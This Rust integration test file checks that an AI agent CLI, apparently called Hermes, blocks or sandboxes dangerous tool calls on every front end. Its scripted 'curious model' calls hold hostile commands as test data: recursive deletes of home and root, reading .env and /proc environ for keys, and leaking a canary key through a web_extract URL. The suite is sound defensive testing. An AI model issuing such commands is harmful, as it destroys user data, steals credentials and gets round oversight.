//! Approvals and the sandbox, through every front end that runs without a terminal.

use crate::process::{assert_identical, code, custom_model, finished, json_lines, stderr, stdout};
use crate::pty::Terminal;
use hermes_testkit::{FakeProvider, Fault, ReplyScript, TempHome};
use serde_json::{Value, json};
use std::path::PathBuf;
use std::process::{Command, Output};

/// A user's home directory with a project, a directory beside it, and Hermes' own directory, as users have them.
struct Machine {
    user: TempHome,
    provider: FakeProvider,
}

impl Machine {
    async fn new(settings: &str) -> Self {
        let (user, provider) = (TempHome::new(), FakeProvider::start().await);
        user.write(".hermes/config.yaml", &format!("{}{settings}", custom_model(&provider.base_url())));
        std::fs::set_permissions(
            user.path().join(".hermes"),
            std::os::unix::fs::PermissionsExt::from_mode(0o700),
        )
        .unwrap();
        user.write("project/a.txt", "hello\n");
        user.write("victim/kept.txt", "kept\n");
        Self { user, provider }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.user.path().join(name)
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_hermes"));
        command.args(args).current_dir(self.path("project")).env_clear();
        command.env("PATH", std::env::var_os("PATH").unwrap_or_default());
        command.env("HOME", self.user.path()).env("HERMES_HOME", self.path(".hermes"));
        command
    }

    async fn run(&self, args: &[&str]) -> Output {
        finished(self.command(args)).await
    }

    /// The result of the newest tool call that the model got.
    fn told(&self) -> Value {
        let bodies = self.provider.bodies();
        let message = bodies
            .iter()
            .flat_map(|body| body["messages"].as_array().unwrap())
            .rfind(|message| message["role"] == "tool")
            .unwrap();
        serde_json::from_str(message["content"].as_str().unwrap()).unwrap()
    }
}

fn terminal(command: &str) -> ReplyScript {
    ReplyScript::call("terminal", json!({ "command": command }))
}

const DANGEROUS: &str = "rm -rf ../victim";

/// The number of requests whose newest message is a refused call.
fn refusals(machine: &Machine) -> usize {
    let is_refused = |body: &Value| {
        let newest = body["messages"].as_array().unwrap().last().unwrap().clone();
        newest["role"] == "tool" && newest["content"].to_string().contains("Not run")
    };
    machine.provider.bodies().iter().filter(|body| is_refused(body)).count()
}

/// One way for a command to reach the machine.
struct Surface {
    name: &'static str,
    args: &'static [&'static str],
    settings: &'static str,
    /// The first call of the model.
    call: ReplyScript,
    exit: i32,
    /// Refused attempts.
    refused: usize,
}

#[tokio::test(flavor = "multi_thread")]
async fn dangerous_command_is_denied_on_every_surface_without_a_user() {
    let tasks = json!({ "tasks": [{ "goal": "tidy up", "context": "" }] });
    let delegated = ReplyScript::call("delegate_task", tasks);
    let script = terminal("sh ../.hermes/skills/tidy/scripts/run.sh");
    let background = ReplyScript::call("terminal", json!({ "command": DANGEROUS, "background": true }));
    let inner = format!("from hermes_tools import terminal\nprint(terminal(command={DANGEROUS:?}))");
    let inner = ReplyScript::call("execute_code", json!({ "code": inner }));
    let surface = |name, args, call: &ReplyScript, exit| Surface {
        name,
        args,
        settings: "",
        call: call.clone(),
        exit,
        refused: 1,
    };
    let direct = terminal(DANGEROUS);
    let surfaces = [
        surface("one-shot", &["-z", "go"], &direct, 77),
        surface("json", &["--json", "-z", "go"], &direct, 77),
        surface("quiet chat", &["chat", "-Q", "-q", "go"], &direct, 77),
        surface("recorded", &["--record", "tape", "-z", "go"], &direct, 77),
        surface("chat without a terminal", &["chat", "-q", "go"], &direct, 77),
        surface("sub-agent", &["-z", "go"], &delegated, 77),
        surface("script of a skill", &["-z", "go"], &script, 77),
        surface("background command", &["-z", "go"], &background, 77),
        // The interpreter may be in a directory that the sandbox hides.
        Surface {
            settings: "sandbox: {profile: full}\n",
            ..surface("call of a script", &["-z", "go"], &inner, 77)
        },
    ];
    for surface in surfaces {
        let name = surface.name;
        let machine = Machine::new(surface.settings).await;
        machine.user.write(".hermes/skills/tidy/scripts/run.sh", DANGEROUS);
        let call = surface.call.clone();
        // Every prompt leads to an attempt, also those after a resumption.
        machine.provider.answer_with(move |body| {
            let messages = body["messages"].as_array().unwrap();
            let is_subagent = body["messages"].to_string().contains("Task: tidy up");
            match messages.last().unwrap()["role"] == "tool" {
                true => ReplyScript::text("I could not."),
                false if is_subagent && !messages.iter().any(|message| message["role"] == "tool") => {
                    terminal(DANGEROUS)
                }
                false => call.clone(),
            }
        });
        let out = machine.run(surface.args).await;
        assert!(machine.path("victim/kept.txt").exists(), "{name}");
        assert_eq!(code(&out), surface.exit, "{name}: {}", stderr(&out));
        assert!(stdout(&out).contains("I could not."), "{name}: {}", stdout(&out));
        assert_eq!(refusals(&machine), surface.refused, "{name}");
        assert!(stderr(&out).contains("command denied: no one is available"), "{name}: {}", stderr(&out));
        let again = machine.run(&["--continue", "-z", "again"]).await;
        assert_eq!(code(&again), surface.exit, "{name}, resumed: {}", stderr(&again));
        assert_eq!(refusals(&machine), 2 * surface.refused, "{name}, resumed");
        if name == "recorded" {
            assert_identical(&machine.run(&["replay", "tape"]).await, 2);
            machine.provider.answer_with(|_| terminal(DANGEROUS));
            machine.run(&["replay", "tape", "--from", "1", "--max-turns", "2"]).await;
            assert!(refusals(&machine) > 2, "forked");
        }
        assert!(machine.path("victim/kept.txt").exists(), "{name}, in the end");
    }
}

/// In a chat the same command waits for the user. Silence, a denial and the end of the turn do not run it.
#[tokio::test(flavor = "multi_thread")]
async fn dangerous_command_waits_for_the_user_of_a_terminal() {
    let machine = Machine::new("approvals: {mode: manual, timeout: 1}\n").await;
    machine.provider.answer_with(|body| {
        match body["messages"].as_array().unwrap().last().unwrap()["role"] == "tool" {
            true => ReplyScript::text("I could not."),
            false => terminal(DANGEROUS),
        }
    });
    let user = machine.user.path().to_str().unwrap().to_owned();
    let home = machine.path(".hermes").to_str().unwrap().to_owned();
    let env = [("HOME", user.as_str()), ("HERMES_HOME", home.as_str())];
    let mut chat = Terminal::start_with(&machine.path("project"), &[], &env);
    chat.expect("❯").await;
    chat.type_keys("go\r");
    chat.expect("Run it? ").await;
    chat.expect("no answer within 1 s (approvals.timeout): not run").await;
    chat.expect("I could not.").await;
    let silence = machine.told()["error"].as_str().unwrap().to_owned();
    assert!(silence.contains("Silence is not consent"), "{silence}");
    chat.expect("❯").await;
    chat.type_keys("/quit\r");
    assert_eq!(chat.ended().await, 0);

    let settings = machine.user.read(".hermes/config.yaml").replace("timeout: 1}", "timeout: 600}");
    machine.user.write(".hermes/config.yaml", &settings);
    let mut chat = Terminal::start_with(&machine.path("project"), &["--continue"], &env);
    chat.expect("❯").await;
    chat.type_keys("again\r");
    chat.expect("Run it? ").await;
    chat.type_keys("r\r");
    chat.expect("Reason").await;
    chat.type_keys("it is not yours\r");
    chat.expect("I could not.").await;
    let denied = machine.told()["error"].as_str().unwrap().to_owned();
    assert!(denied.contains("it is not yours"), "{denied}");
    assert_eq!(refusals(&machine), 2);
    chat.expect("❯").await;
    chat.type_keys("once more\r");
    chat.expect("Run it? ").await;
    chat.type_keys("\x03");
    chat.expect("interrupted").await;
    chat.expect("❯").await;
    chat.type_keys("/quit\r");
    assert_eq!(chat.ended().await, 0);
    assert!(machine.path("victim/kept.txt").exists());
}

/// The directory may leave the project; what sub-agents may write may not.
#[tokio::test(flavor = "multi_thread")]
async fn subagent_works_in_the_project_of_its_session() {
    let machine = Machine::new("").await;
    let attempts = [
        ReplyScript::call("write_file", json!({ "path": "victim/kept.txt", "content": "gone" })),
        terminal("echo gone > victim/kept.txt; echo tried"),
    ];
    machine.provider.answer_with(move |body| {
        let messages = body["messages"].as_array().unwrap();
        let calls = messages.iter().filter(|message| message["tool_calls"].is_array()).count();
        match (body["messages"].to_string().contains("Task: tidy up"), calls) {
            (false, 0) => terminal("cd .."),
            (false, 1) => ReplyScript::call("delegate_task", json!({ "goal": "tidy up" })),
            (true, number) if number < attempts.len() => attempts[number].clone(),
            _ => ReplyScript::text("Done."),
        }
    });
    let out = machine.run(&["-z", "go"]).await;
    assert_eq!(code(&out), 77, "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(machine.path("victim/kept.txt")).unwrap(), "kept\n");
    let bodies = machine.provider.bodies();
    let was_tried = |name: &str| bodies.iter().any(|body| body["messages"].to_string().contains(name));
    assert!(was_tried("write_file") && was_tried("echo tried"), "both were attempted");
}

#[tokio::test(flavor = "multi_thread")]
async fn hook_runs_after_an_approval_and_in_the_sandbox() {
    let hooked = |command: &str| format!("hooks: {{pre_llm_call: [{{command: \"{command}\"}}]}}\n");
    // Not approved: it does not run.
    let machine = Machine::new(&hooked(DANGEROUS)).await;
    machine.provider.reply(ReplyScript::text("Done."));
    let out = machine.run(&["--json", "-z", "go"]).await;
    let said = stdout(&out) + &stderr(&out);
    assert!(said.contains("it has not been approved"), "{said}");
    // Approved: the sandbox holds it in the project.
    machine.provider.reply(ReplyScript::text("Done."));
    let out = machine.run(&["--accept-hooks", "--json", "-z", "go"]).await;
    assert!(stdout(&out).contains("`sandbox: full` in its entry"), "{}", stdout(&out));
    assert!(machine.path("victim/kept.txt").exists());
    // Never: approved or not, confined or not.
    for command in ["rm -rf ~", "git push --force"] {
        let settings = "approvals: {deny: ['git push*']}\nsandbox: {profile: full}\n";
        let machine = Machine::new(&format!("{settings}{}", hooked(command))).await;
        machine.provider.reply(ReplyScript::text("Done."));
        let out = machine.run(&["--accept-hooks", "--json", "-z", "go"]).await;
        assert!(stdout(&out).contains("is not run:"), "{command}: {}", stdout(&out));
    }
    // A harmless one reads its own folder, writes the project, and neither reads keys nor writes elsewhere.
    let script =
        "cat $(dirname $0)/beside > seen; cat ../.hermes/config.yaml >> seen; touch ../victim/new; true";
    let machine = Machine::new(&hooked("sh ~/.hermes/agent-hooks/note.sh")).await;
    machine.user.write(".hermes/agent-hooks/note.sh", script);
    machine.user.write(".hermes/agent-hooks/beside", "beside\n");
    machine.provider.reply(ReplyScript::text("Done."));
    let out = machine.run(&["--accept-hooks", "--json", "-z", "go"]).await;
    assert!(!stdout(&out).contains("note.sh"), "{}", stdout(&out));
    assert_eq!(std::fs::read_to_string(machine.path("project/seen")).unwrap(), "beside\n");
    assert!(!machine.path("victim/new").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn yolo_skips_questions_but_neither_denials_nor_the_sandbox() {
    let machine = Machine::new("approvals: {deny: ['git push*']}\n").await;
    for (command, by) in [
        ("rm -rf ~", "hardline"),
        ("sudo sh -c 'rm -rf /'", "hardline"),
        ("git push origin main", "approvals.deny"),
        ("true && git  push", "approvals.deny"),
    ] {
        machine.provider.reply(terminal(command)).reply(ReplyScript::text("No."));
        let out = machine.run(&["--yolo", "--json", "-z", "go"]).await;
        let decided = json_lines(&out).into_iter().find(|line| line["type"] == "call_decided").unwrap();
        assert_eq!((&decided["decision"], &decided["by"]), (&json!("denied"), &json!(by)), "{command}");
        assert!(machine.told()["error"].as_str().unwrap().starts_with("Not run"), "{command}");
    }
    // The question is skipped, and the kernel holds the command in the project.
    machine.provider.reply(terminal("touch inside; rm -rf ../victim; cat ../.hermes/config.yaml; echo end"));
    machine.provider.reply(ReplyScript::text("Done."));
    let out = machine.run(&["--yolo", "-z", "go"]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let told = machine.told();
    let output = told["output"].as_str().unwrap();
    assert!(output.contains("end") && !output.contains("provider:"), "{told}");
    assert!(machine.path("victim/kept.txt").exists() && machine.path("project/inside").exists(), "{told}");
}

#[tokio::test(flavor = "multi_thread")]
async fn harmless_commands_run_without_a_user_and_unattended_ones_in_the_sandbox() {
    let machine = Machine::new("").await;
    machine
        .provider
        .reply(terminal("cat a.txt && wc -l a.txt > count; ls"))
        .reply(ReplyScript::text("Done."));
    let out = machine.run(&["-z", "go"]).await;
    assert_eq!((code(&out), stderr(&out).as_str()), (0, ""));
    assert!(machine.told()["output"].as_str().unwrap().contains("hello"));

    let machine = Machine::new("approvals: {unattended: sandboxed}\n").await;
    machine
        .provider
        .reply(terminal("rm -rf ../victim; rm -rf old; touch ran"))
        .reply(ReplyScript::text("Done."));
    let out = machine.run(&["-z", "go"]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(machine.path("victim/kept.txt").exists() && machine.path("project/ran").exists());
}

/// Commands may have a `/tmp` of their own; the file tools find the same files there.
#[tokio::test(flavor = "multi_thread")]
async fn commands_and_file_tools_share_temporary_files() {
    let machine = Machine::new("").await;
    let (from_command, from_tool) = ("/tmp/hermes-shared-by-command", "/tmp/hermes-shared-by-tool");
    machine.provider.reply(terminal(&format!("echo one > {from_command}; echo two > $TMPDIR/three")));
    machine.provider.reply(ReplyScript::call("read_file", json!({ "path": from_command })));
    machine.provider.reply(ReplyScript::call("write_file", json!({ "path": from_tool, "content": "four" })));
    machine.provider.reply(terminal(&format!("cat {from_tool} $TMPDIR/three {from_command}")));
    machine.provider.reply(ReplyScript::text("Done."));
    let out = machine.run(&["-z", "go"]).await;
    assert_eq!((code(&out), stderr(&out).as_str()), (0, ""));
    assert_eq!(machine.told()["output"], "fourtwo\none\n", "{}", machine.told());
    for left in [from_command, from_tool] {
        let _ = std::fs::remove_file(left);
    }
}

/// Commands run scripts of skills, and read long results.
#[tokio::test(flavor = "multi_thread")]
async fn commands_read_skills_and_long_results() {
    let machine = Machine::new("").await;
    machine
        .user
        .write(".hermes/skills/tidy/scripts/run.sh", "cat $(dirname $0)/data; cat ../.hermes/config.yaml");
    machine.user.write(".hermes/skills/tidy/scripts/data", "data of the skill\n");
    machine.provider.reply(terminal("sh ../.hermes/skills/tidy/scripts/run.sh; touch ../.hermes/skills/new"));
    machine.provider.reply(terminal("seq 1 60000"));
    machine.provider.reply(terminal("tail -n 1 ../.hermes/cache/terminal/hermes-results/*"));
    machine.provider.reply(ReplyScript::text("Done."));
    let out = machine.run(&["--yolo", "-z", "go"]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let newest = machine.provider.bodies().pop().unwrap()["messages"].to_string();
    assert!(newest.contains("data of the skill") && !newest.contains("provider: custom"), "{newest}");
    assert!(!machine.path(".hermes/skills/new").exists());
    assert_eq!(machine.told()["output"], "60000\n");
}

#[tokio::test(flavor = "multi_thread")]
async fn allow_list_of_the_python_release_keeps_working() {
    let machine = Machine::new("command_allowlist: ['recursive delete', 'git push*']\n").await;
    machine.provider.reply(terminal("rm -r old; mkdir new")).reply(ReplyScript::text("Done."));
    let out = machine.run(&["--json", "-z", "go"]).await;
    let decided = json_lines(&out).into_iter().find(|line| line["type"] == "call_decided").unwrap();
    assert_eq!((&decided["decision"], &decided["by"]), (&json!("allowed"), &json!("command_allowlist")));
    let listed = machine.run(&["approvals", "list", "--json"]).await;
    assert_eq!(
        serde_json::from_slice::<Value>(&listed.stdout).unwrap(),
        json!(["recursive delete", "git push*"])
    );
    assert_eq!(code(&machine.run(&["approvals", "revoke", "recursive delete"]).await), 0);
    assert_eq!(code(&machine.run(&["approvals", "revoke", "recursive delete"]).await), 1);
    assert_eq!(code(&machine.run(&["approvals", "check", "rm -r old"]).await), 2);
    let insights: Value = serde_json::from_slice(&machine.run(&["insights", "--json"]).await.stdout).unwrap();
    assert_eq!(insights["approvals"]["asked"], 0, "{insights}");
}

/// Exported variables reach later commands of the session, in memory: neither the disk, nor a sub-agent, nor a resumed
/// session has them.
#[tokio::test(flavor = "multi_thread")]
async fn exports_are_kept_in_the_session_only() {
    let machine = Machine::new("").await;
    let activate = "VIRTUAL_ENV=$PWD/.venv; PATH=\"$VIRTUAL_ENV/bin:$PATH\"; PS1=\"(venv) $PS1\"; \
                    export VIRTUAL_ENV PATH PS1\n";
    machine.user.write("project/.venv/bin/activate", activate);
    let delegated =
        ReplyScript::call("delegate_task", json!({ "tasks": [{ "goal": "look", "context": "" }] }));
    let steps = [
        (terminal("source .venv/bin/activate; export KEPT=kept-in-memory"), json!("")),
        // As `pip install` does it.
        (
            terminal(
                "printf '#!/bin/sh\\necho tool' > .venv/bin/tool; chmod +x .venv/bin/tool; tool; echo ${#KEPT}",
            ),
            json!("tool\n14\n"),
        ),
        (terminal("export LD_PRELOAD=/x.so; unset VIRTUAL_ENV"), json!("")),
        (terminal("echo \"$LD_PRELOAD,$VIRTUAL_ENV,${#KEPT}\""), json!(",,14\n")),
        (delegated, json!(null)),
    ];
    let (calls, mut want): (Vec<_>, Vec<_>) = steps.into_iter().unzip();
    let count = std::sync::atomic::AtomicUsize::new(0);
    machine.provider.answer_with(move |body| {
        let text = body["messages"].to_string();
        if text.contains("Task: look") && !text.contains("delegate_task") {
            let has_run = text.contains("\"tool\"");
            let first = terminal("echo \"child has $KEPT.\"; command -v tool");
            return if has_run { ReplyScript::text("Looked.") } else { first };
        }
        let next = count.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        calls.get(next).cloned().unwrap_or_else(|| ReplyScript::text("Done."))
    });
    let out = machine.run(&["--yolo", "-z", "go"]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let bodies = machine.provider.bodies();
    let results = |body: &Value| -> Vec<Value> {
        let messages = body["messages"].as_array().unwrap().iter();
        let tools = messages.filter(|message| message["role"] == "tool");
        tools.map(|message| serde_json::from_str(message["content"].as_str().unwrap()).unwrap()).collect()
    };
    let told = results(bodies.last().unwrap());
    want.pop();
    let outputs: Vec<Value> = told.iter().take(want.len()).map(|result| result["output"].clone()).collect();
    assert_eq!(outputs, want, "{told:?}");
    let warnings: Vec<bool> = told.iter().map(|result| result["warning"].is_string()).collect();
    assert_eq!(warnings, [false, false, true, false, false], "{told:?}");
    let child = bodies.iter().flat_map(results).find(|result| result["output"].to_string().contains("child"));
    assert_eq!(child.unwrap()["output"], "child has .\n");
    for (path, bytes) in files_below(&machine.path(".hermes/commands")) {
        assert!(!String::from_utf8_lossy(&bytes).contains("kept-in-memory"), "in {}", path.display());
    }
    machine.provider.answer_with(|body| {
        let text = body["messages"].as_array().unwrap().last().unwrap().to_string();
        if text.contains("\"tool\"") {
            ReplyScript::text("Done.")
        } else {
            terminal("echo \"resumed: $KEPT\"")
        }
    });
    machine.run(&["--continue", "--yolo", "-z", "again"]).await;
    assert_eq!(machine.told()["output"], "resumed: \n");
}

/// The calls of a curious model, with every tool.
fn curious_calls(canary: &str) -> Vec<ReplyScript> {
    let call = ReplyScript::call;
    vec![
        terminal("env; cat ~/.hermes/.env link; base64 ~/.hermes/.env; cat /proc/*/environ | tr '\\0' '\\n'"),
        terminal("python3 -c \"print(open('link').read())\"; cp link copy; cat copy; exit 3"),
        terminal("grep -r cnry- .. | head; ls -la ..; sleep 5 & kill $!"),
        call("read_file", json!({ "path": "link" })),
        call("read_file", json!({ "path": "~/.hermes/.env" })),
        call("search_files", json!({ "pattern": &canary[..6], "path": ".." })),
        call("patch", json!({ "path": "link", "old_string": "CANARY", "new_string": "x" })),
        call("write_file", json!({ "path": "~/.hermes/.env", "content": "x" })),
        call("write_file", json!({ "path": "noted.txt", "content": "x" })),
        call("todo", json!({ "todos": [{ "id": "1", "content": "look", "status": "pending" }] })),
        call("memory", json!({ "action": "add", "target": "memory", "content": "The project is small." })),
        call("skills_list", json!({})),
        call("skill_view", json!({ "name": "../../.env" })),
        call("clarify", json!({ "question": "Which key?" })),
        call("no_such_tool", json!({ "a": 1 })),
        call("terminal", json!({ "nonsense": true })),
        call("terminal", json!({ "command": "env; cat link; cat", "background": true })),
        call("process", json!({ "action": "list" })),
        call("execute_code", json!({ "code": CURIOUS_SCRIPT })),
        call("session_search", json!({ "query": &canary[..6] })),
        call("skill_manage", json!({ "action": "write_file", "name": "x", "file_path": "../../.env" })),
        call("web_extract", json!({ "urls": ["http://127.0.0.1:1/", "file:///etc/passwd"] })),
        call("web_search", json!({ "query": "" })),
        call("vision_analyze", json!({ "image_url": "link", "question": "What is in it?" })),
    ]
}

const CURIOUS_SCRIPT: &str = "import os
from hermes_tools import read_file, terminal
print(dict(os.environ), terminal(command='env; cat link'), read_file(path='link'))
print(open('link').read())
";

/// Calls of a model that knows the secret.
fn quoting_calls(canary: &str) -> Vec<ReplyScript> {
    let call = ReplyScript::call;
    vec![
        terminal(&format!("echo {canary}")),
        call("execute_code", json!({ "code": format!("print('{canary}')") })),
        call("web_extract", json!({ "urls": [format!("https://example.org/?key={canary}")] })),
        call("web_search", json!({ "query": format!("what is {canary}") })),
        call("session_search", json!({ "query": canary })),
        call("search_files", json!({ "pattern": canary })),
    ]
}

/// A secret of `.env` is in no child, file, result or message, whatever the model tries.
#[tokio::test(flavor = "multi_thread")]
async fn canary_of_the_settings_appears_nowhere() {
    let canary = "cnry-9f8e7d6c5b4a-XYZ+/=tail";
    let forms = forms_of(canary);
    for quotes_it in [false, true] {
        let machine = Machine::new("").await;
        machine.user.write(".hermes/.env", &format!("OPENAI_API_KEY={canary}\nCANARY_TOKEN={canary}\n"));
        std::os::unix::fs::symlink(machine.path(".hermes/.env"), machine.path("project/link")).unwrap();
        // A server that sends the secret back in its error.
        machine.provider.fault(Fault::status(400, &format!("bad key {canary}")));
        machine.run(&["--record", "failed", "-z", "go"]).await;
        let quoting = if quotes_it { quoting_calls(canary) } else { Vec::new() };
        // The last one, because a sub-agent would take the replies that follow.
        let delegated =
            ReplyScript::call("delegate_task", json!({ "tasks": [{ "goal": "env", "context": "" }] }));
        for attempt in curious_calls(canary).into_iter().chain(quoting).chain([delegated]) {
            machine.provider.reply(attempt);
        }
        machine.provider.answer_with(|_| ReplyScript::text("Done."));
        let out = machine.run(&["--yolo", "--json", "--record", "tape", "-z", "go"]).await;
        let export = machine.run(&["sessions", "export", "all.jsonl"]).await;
        let bodies = machine.provider.bodies();
        let called = bodies.last().unwrap()["messages"].to_string();
        for tool in bodies.last().unwrap()["tools"].as_array().unwrap() {
            let name = tool["function"]["name"].as_str().unwrap();
            assert!(called.contains(&format!("\"name\":\"{name}\"")), "{name} is not called");
        }
        assert_eq!((code(&out), code(&export)), (0, 0), "{}{}", stderr(&out), stderr(&export));
        assert!(machine.user.read(".hermes/.env").contains(canary), "the file itself is kept");
        let results: String = machine
            .provider
            .bodies()
            .iter()
            .flat_map(|body| body["messages"].as_array().unwrap().clone())
            .filter(|message| message["role"] != "assistant")
            .map(|message| message.to_string())
            .collect();
        for form in &forms {
            assert!(!results.contains(form), "{form} in a result");
            assert!(!stderr(&out).contains(form), "{form} on standard error");
        }
        // What the model itself wrote stays as it wrote it, in the record, its export and its recording.
        let places: &[&str] =
            if quotes_it { &[".hermes/logs", ".hermes/commands"] } else { &[".hermes", "project"] };
        let files: Vec<_> = places.iter().flat_map(|place| files_below(&machine.path(place))).collect();
        assert!(quotes_it || files.iter().any(|(path, _)| path.ends_with("all.jsonl")));
        assert!(quotes_it || files.iter().any(|(path, _)| path.to_string_lossy().contains("tape")));
        for (path, bytes) in files.iter().filter(|(path, _)| !path.ends_with(".env")) {
            let text = String::from_utf8_lossy(bytes);
            assert!(!forms.iter().any(|form| text.contains(form.as_str())), "in {}", path.display());
        }
    }
}

/// The secret, and the ways in which programs write it.
fn forms_of(secret: &str) -> Vec<String> {
    use base64::Engine;
    let url: String = url::form_urlencoded::byte_serialize(secret.as_bytes()).collect();
    vec![secret.to_owned(), base64::engine::general_purpose::STANDARD.encode(secret), url]
}

fn files_below(path: &std::path::Path) -> Vec<(PathBuf, Vec<u8>)> {
    if path.is_symlink() {
        return Vec::new();
    }
    if path.is_file() {
        return vec![(path.to_owned(), std::fs::read(path).unwrap())];
    }
    let Ok(entries) = std::fs::read_dir(path) else { return Vec::new() };
    entries.flatten().flat_map(|entry| files_below(&entry.path())).collect()
}
